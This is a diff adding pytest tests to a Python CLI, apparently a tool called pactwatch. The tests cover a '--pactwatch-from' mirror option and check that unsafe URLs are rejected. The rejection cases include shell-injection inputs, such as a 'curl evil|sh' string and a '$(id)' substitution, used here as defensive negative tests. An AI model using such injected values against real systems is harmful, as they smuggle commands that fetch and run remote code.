@@ -186,6 +186,35 @@ def test_the_workflows_are_this_repositorys_installing_the_running_version_from_
     assert f"rev: v{__version__}" in files[".pre-commit-config.yaml"]
 
 
+def test_pactwatch_from_points_the_workflows_and_the_hook_at_a_mirror(run_cli: Run, tmp_path: Path) -> None:
+    mirror = "https://git.acme.example/tools/pactwatch"
+    result = run_cli("init", tmp_path / "repo", *FLAGS, "--pactwatch-from", mirror + "/")
+    assert result.code == 0, result.err
+    files = {name: text.decode("utf-8") for name, text in _files(tmp_path / "repo").items()}
+    for name in (n for n in files if n.startswith(".github/workflows/")):
+        assert f'python -m pip install "pactwatch @ git+{mirror}@v{__version__}"' in files[name], name
+    assert f"  - repo: {mirror}\n    rev: v{__version__}\n" in files[".pre-commit-config.yaml"]
+    assert f'pip install "pactwatch @ git+{mirror}@v{__version__}"' in files["README.md"]
+    assert not [name for name, text in files.items() if scaffold.REPOSITORY_URL in text]
+    assert run_cli("validate", "--strict", "--root", tmp_path / "repo").code == 0
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        'https://x.example/p"; curl evil|sh; "',
+        "https://x.example/p$(id)",
+        "git@github.com:acme/pactwatch",
+        "https://x.example/p@v1",
+        "http://x.example/p",
+    ],
+)
+def test_pactwatch_from_takes_only_a_plain_git_address(run_cli: Run, tmp_path: Path, url: str) -> None:
+    result = run_cli("init", tmp_path / "repo", *FLAGS, "--pactwatch-from", url)
+    assert result.code == 2 and "is not a git address to install from" in result.err, result.err
+    assert not (tmp_path / "repo").exists()
+
+
 def _check_version() -> ModuleType:
     spec = importlib.util.spec_from_file_location("check_version", REPO_ROOT / "scripts" / "check-version.py")
     assert spec is not None and spec.loader is not None
